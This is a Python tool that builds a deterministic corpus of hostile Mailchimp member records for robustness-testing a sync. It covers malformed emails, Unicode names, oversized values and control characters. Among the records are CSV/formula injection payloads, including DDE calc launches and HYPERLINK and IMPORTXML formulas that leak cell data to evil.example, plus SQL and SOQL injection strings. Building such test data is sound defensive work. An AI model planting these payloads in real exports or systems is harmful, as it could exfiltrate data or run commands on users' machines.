"""A hostile corpus of Mailchimp members: the inputs a sync meets on a bad day, on purpose.

Every record is ``{"id", "category", "audience", "member", "note"}``: ``member`` is a body for
the Mailchimp sandbox's private upsert (``POST /_sandbox/lists/{id}/members?skip_merge_validation=true``),
``audience`` 0 or 1 says which of two audiences it goes to (case twins straddle both). Merge tags
used: FNAME, LNAME, PHONE, COMPANY, BIRTHDAY (every seeded audience), LTV (number) and SIGNUP
(date, created by the test) in audience 0.

Categories: invalid, internationalised and very long emails; emails differing only by case or
whitespace; RTL, emoji and combining names; 100,000-character merge values and length edges; NUL
and control characters; CSV/formula injection; quotes, backslashes and newlines; SOQL-breaking
quotes and wildcards in emails; wrong merge value types; missing required values; odd dates.

``python -m devtools.corpus [--out corpus.json]`` prints or writes it (deterministic: no randomness).
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path
from typing import Any

HUGE = 100_000
DOMAIN = "corpus.example.org"


class _Corpus:
    def __init__(self) -> None:
        self.records: list[dict[str, Any]] = []

    def add(self, category: str, email: Any, merge: dict[str, Any] | None = None, *, audience: int = 0,
            note: str = "", status: str | None = "subscribed", **extra: Any) -> None:
        member: dict[str, Any] = {"email_address": email, **extra}
        if status is not None:
            member["status"] = status
        if merge is not None:
            member["merge_fields"] = merge
        self.records.append({"id": f"c{len(self.records):03d}", "category": category, "audience": audience,
                             "member": member, "note": note})

    def person(self, category: str, local: str, first: Any, last: Any = "Corpus", **kw: Any) -> None:
        """A member whose email is plain and unique, so only the names are hostile."""
        self.add(category, f"{local}@{DOMAIN}", {"FNAME": first, "LNAME": last}, **kw)


def _emails(c: _Corpus) -> None:
    invalid = ["plainaddress", "@no-local.example.org", "no-at-sign.example.org", "two@@example.org",
               "a..b@example.org", ".lead@example.org", "trail.@example.org", "a@-example.org",
               "a@example..org", "a@example", "a@example.c", "a b@example.org", "a@exa mple.org",
               "a@exa_mple.org", "<script>@example.org", "a@b@c.example.org", "mailto:a@example.org",
               "a@[127.0.0.1]", '"quoted local"@example.org', "a@example.org.", "", "   ",
               "a\x00b@example.org", "line\nbreak@example.org", "tab\t@example.org"]
    for i, email in enumerate(invalid):
        c.add("invalid email", email, {"FNAME": "Invalid", "LNAME": f"Email {i}"}, note=repr(email))
    c.add("invalid email", None, {"FNAME": "No", "LNAME": "Email"}, note="email_address null")
    c.add("invalid email", 12345, {"FNAME": "Numeric", "LNAME": "Email"}, note="email_address a number")
    international = ["jürgen.müller@example.de", "josé@example.es", "用户@例子.广告", "δοκιμή@παράδειγμα.δοκιμή",
                     "пользователь@пример.рф", "user@müller.de", "user@xn--mller-kva.de", "xn--mller-kva@example.org",
                     "ñandú@example.org", "𝓊𝓃𝒾𝒸𝑜𝒹𝑒@example.org", "user@example.xn--p1ai", "ａｂｃ@example.org"]
    for i, email in enumerate(international):
        c.add("internationalised email", email, {"FNAME": "Intl", "LNAME": f"Email {i}"}, note=email)
    for n in (64, 65, 80, 81, 120, 254, 255, 320, 1000):
        local = ("l" * min(n - len(DOMAIN) - 1, 64)) if n <= 64 + len(DOMAIN) + 1 else "l" * 64
        domain = DOMAIN if len(local) + 1 + len(DOMAIN) >= n else \
            ".".join(["d" * 60] * ((n - len(local) - 1 - len(DOMAIN)) // 61 + 1))[: n - len(local) - 2 - len(DOMAIN)]
        email = f"{local}@{domain + '.' if domain != DOMAIN else ''}{DOMAIN}".replace("..", ".")
        c.add("very long email", email, {"FNAME": "Long", "LNAME": f"Email {len(email)}"}, note=f"{len(email)} chars")
    c.add("very long email", "l" * 65 + "@example.org", {"FNAME": "Long", "LNAME": "Local part 65"},
          note="local part over 64")
    c.add("very long email", "a@" + "x" * 64 + ".example.org", {"FNAME": "Long", "LNAME": "Label 64"},
          note="a DNS label over 63")


def _twins(c: _Corpus) -> None:
    for i in range(10):
        base = f"case.twin{i}@{DOMAIN}"
        variants = [base.upper(), base.title(), f"  {base}  ", f"\t{base}", base.replace("case", "CaSe")]
        c.add("case/whitespace twin", base, {"FNAME": "Twin", "LNAME": f"Lower {i}"}, audience=0,
              note="lower case, audience 0")
        c.add("case/whitespace twin", variants[i % len(variants)], {"FNAME": "Twin", "LNAME": f"Variant {i}"},
              audience=1, note=f"{variants[i % len(variants)]!r}, audience 1: the same person")
    for i in range(3):  # the same member twice in one audience: the second write wins
        c.add("case/whitespace twin", f"same.list{i}@{DOMAIN}", {"FNAME": "First", "LNAME": f"Write {i}"},
              note="first write")
        c.add("case/whitespace twin", f" SAME.LIST{i}@{DOMAIN.upper()} ", {"FNAME": "Second", "LNAME": f"Write {i}"},
              note="second write of the same member, other case and blanks")


def _names(c: _Corpus) -> None:
    names = ["محمد", "عبد الله بن محمد", "שָׁלוֹם", "דוד כהן", "\u202egnp.exe", "a\u200fb\u200ec", "😀", "🚀🚀🚀",
             "👩\u200d👩\u200d👧\u200d👦", "🏳️\u200d🌈", "Zoe\u0308", "Zoë", "Ǆemal", "ﷺ", "𝕳𝖊𝖑𝖑𝖔", "Z̵̧̛̤͍̓a̷̛l̸g̴o̵",
             "李小龙", "山田 太郎", "Ωμέγα", "Ꭰꮿꮝꭺ", "ᚠᚢᚦ", "ß", "İstanbul", "\u00a0nbsp\u00a0"]
    for i, name in enumerate(names):
        c.person("RTL, emoji and combining names", f"name{i}", name, name[::-1] or "x", note=repr(name))


def _lengths(c: _Corpus) -> None:
    big = "x" * HUGE
    c.person("100,000-character values", "huge.fname", big, "Huge", note="FNAME 100,000 chars")
    c.person("100,000-character values", "huge.lname", "Huge", big, note="LNAME 100,000 chars")
    c.add("100,000-character values", f"huge.company@{DOMAIN}", {"FNAME": "Huge", "LNAME": "Company", "COMPANY": big},
          note="COMPANY 100,000 chars")
    c.add("100,000-character values", f"huge.all@{DOMAIN}", {"FNAME": big, "LNAME": big, "COMPANY": big},
          note="every text field 100,000 chars")
    c.person("100,000-character values", "huge.emoji", "😀" * (HUGE // 4), "Emoji", note="25,000 emoji in FNAME")
    for field, limit in (("FNAME", 40), ("LNAME", 80)):
        for n in (limit - 1, limit, limit + 1):
            c.add("length edges", f"edge.{field.lower()}{n}@{DOMAIN}",
                  {"FNAME": "Edge", "LNAME": "Edge", field: "y" * n}, note=f"{field} {n} chars")
    c.person("length edges", "edge.emoji40", "😀" * 40, "Emoji", note="40 emoji: 40 code points, 80 UTF-16 units")
    c.person("length edges", "edge.combining40", "e\u0301" * 20, "Combining", note="20 é as e + combining accent")
    c.add("length edges", f"edge.company255@{DOMAIN}", {"FNAME": "Edge", "LNAME": "Company", "COMPANY": "c" * 255},
          note="COMPANY 255 chars")


def _control(c: _Corpus) -> None:
    values = ["Ann\x00Lee", "\x00", "\x00\x00\x00", "tail\x00", "bell\x07", "esc\x1b[31mred\x1b[0m", "del\x7f",
              "form\x0cfeed", "vt\x0bab", "\ufeffbom", "surrogate-ish \ufffd", "c1\x85next"]
    for i, value in enumerate(values):
        c.person("NUL and control characters", f"control{i}", value, f"Control {i}", note=repr(value))
    c.add("NUL and control characters", f"control.company@{DOMAIN}",
          {"FNAME": "Nul", "LNAME": "Company", "COMPANY": "ACME\x00 Inc"}, note="NUL in COMPANY")


def _injection(c: _Corpus) -> None:
    payloads = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3",
                "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "+41 44 000 00 00", "-",
                "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"!A0\")"]
    for i, value in enumerate(payloads):
        c.person("CSV/formula injection", f"formula{i}", value, value, note=repr(value))
    c.add("CSV/formula injection", f"formula.company@{DOMAIN}",
          {"FNAME": "Formula", "LNAME": "Company", "COMPANY": "=cmd|' /C calc'!A0"}, note="formula in COMPANY")
    c.add("CSV/formula injection", f"=formula@{DOMAIN}", {"FNAME": "Formula", "LNAME": "Email"},
          note="formula prefix in the email")
    c.add("CSV/formula injection", f"+plus@{DOMAIN}", {"FNAME": "Plus", "LNAME": "Email"}, note="+ in the email")
    c.add("CSV/formula injection", f"-minus@{DOMAIN}", {"FNAME": "Minus", "LNAME": "Email"}, note="- in the email")


def _quotes(c: _Corpus) -> None:
    values = ["O'Brien", "Say \"hi\"", "back\\slash", "trailing\\", "\\", "\\\\server\\share", "new\nline",
              "cr\rreturn", "crlf\r\nline", "tab\there", "'; DROP TABLE Lead; --", "\\'", "\"\"\"", "''",
              "a,b,c", "\"quoted, with comma\"", "multi\n\nblank\n\nlines", "\u2028line sep\u2029"]
    for i, value in enumerate(values):
        c.person("quotes, backslashes, newlines", f"quote{i}", value, value, note=repr(value))


def _soql(c: _Corpus) -> None:
    emails = ["o'brien@", "o''brien@", "a'or'1'='1@", "x\\'y@", "a%b@", "a_b@", "%@", "_@", "a*b@", "it's+me@",
              "quote'@", "'@"]
    for i, local in enumerate(emails):
        c.add("SOQL-breaking email", local + DOMAIN, {"FNAME": "Soql", "LNAME": f"Quote {i}"}, note=local)


def _types(c: _Corpus) -> None:
    odd: list[tuple[str, Any, str]] = [
        ("FNAME", 12345, "int in a text field"), ("FNAME", 1.5, "float in a text field"),
        ("FNAME", True, "bool in a text field"), ("FNAME", None, "null in a text field"),
        ("FNAME", {"nested": "object"}, "object in a text field"), ("FNAME", ["a", "list"], "list in a text field"),
        ("LTV", "not a number", "text in a number field"), ("LTV", "1e400", "overflowing number"),
        ("LTV", "NaN", "NaN"), ("LTV", "-Infinity", "minus infinity"), ("LTV", 10**30, "30-digit integer"),
        ("LTV", "  42  ", "number with blanks"), ("LTV", "1,234.5", "thousands separator"),
        ("LTV", True, "bool in a number field"), ("LTV", -0.0, "negative zero"), ("LTV", 1e-300, "tiny number"),
        ("PHONE", "call me maybe", "words in a phone field"), ("PHONE", 4711, "int in a phone field"),
        ("BIRTHDAY", 1231, "int in a birthday field"),
    ]
    for i, (tag, value, note) in enumerate(odd):
        c.add("wrong merge types", f"types{i}@{DOMAIN}", {"FNAME": "Types", "LNAME": f"Wrong {i}", tag: value},
              note=note)
    c.add("wrong merge types", f"types.merge@{DOMAIN}", "not an object", note="merge_fields a string")
    c.add("wrong merge types", f"types.status@{DOMAIN}", {"FNAME": "Bad", "LNAME": "Status"}, status="maybe",
          note="unknown status")


def _missing(c: _Corpus) -> None:
    c.add("missing required values", f"missing.lname@{DOMAIN}", {"FNAME": "Only"}, note="no LNAME (Lead needs one)")
    c.add("missing required values", f"missing.fname@{DOMAIN}", {"LNAME": "Only"}, note="no FNAME")
    c.add("missing required values", f"missing.merge@{DOMAIN}", None, note="no merge fields at all")
    c.add("missing required values", f"missing.blank@{DOMAIN}", {"FNAME": "", "LNAME": ""}, note="empty names")
    c.add("missing required values", f"missing.spaces@{DOMAIN}", {"FNAME": "   ", "LNAME": " \t "},
          note="names of blanks only")
    c.add("missing required values", f"missing.nul@{DOMAIN}", {"FNAME": "Nul", "LNAME": "\x00"},
          note="LNAME only a NUL")
    c.add("missing required values", f"missing.status@{DOMAIN}", {"FNAME": "No", "LNAME": "Status"}, status=None,
          note="no status (the endpoint's default)")
    c.add("missing required values", f"missing.unsub@{DOMAIN}", {}, status="unsubscribed",
          note="unsubscribed, no names")
    c.add("missing required values", f"missing.pending@{DOMAIN}", {"FNAME": "Pending"}, status="pending",
          note="pending, no LNAME")
    c.add("missing required values", f"missing.cleaned@{DOMAIN}", {"LNAME": "Cleaned"}, status="cleaned",
          note="cleaned")


def _dates(c: _Corpus) -> None:
    birthdays = ["02/30", "13/01", "2/3", "02-03", "0203", "12/31", "02/29", "٠٢/٠٣", " 02/03 ", "00/00", "1/1/1"]
    for i, value in enumerate(birthdays):
        c.add("odd dates", f"birthday{i}@{DOMAIN}", {"FNAME": "Birthday", "LNAME": f"Odd {i}", "BIRTHDAY": value},
              note=f"BIRTHDAY {value!r}")
    signups = ["2026-02-30", "2026-13-01", "1899-12-31", "9999-12-31", "0001-01-01", "02/29/2023", "02/29/2024",
               "2026-1-2", "2026/01/02", "20260102", "2026-01-02T10:00:00Z", "yesterday"]
    for i, value in enumerate(signups):
        c.add("odd dates", f"signup{i}@{DOMAIN}", {"FNAME": "Signup", "LNAME": f"Odd {i}", "SIGNUP": value},
              note=f"SIGNUP {value!r}")
    for i, value in enumerate(["2026-11-20 10:00", "20/11/2026", "not a time", "2026-11-20T10:00:00+14:00"]):
        c.add("odd dates", f"optin{i}@{DOMAIN}", {"FNAME": "Optin", "LNAME": f"Odd {i}"}, timestamp_opt=value,
              note=f"timestamp_opt {value!r}")


def build() -> list[dict[str, Any]]:
    """The corpus, in a fixed order (ids ``c000``, ``c001``, …)."""
    corpus = _Corpus()
    for part in (_emails, _twins, _names, _lengths, _control, _injection, _quotes, _soql, _types, _missing, _dates):
        part(corpus)
    return corpus.records


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m devtools.corpus", description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, help="write JSON here (default: stdout)")
    args = parser.parse_args(argv)
    text = json.dumps(build(), ensure_ascii=False, indent=1)
    if args.out:
        args.out.write_text(text, encoding="utf-8")
    else:
        sys.stdout.write(text + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
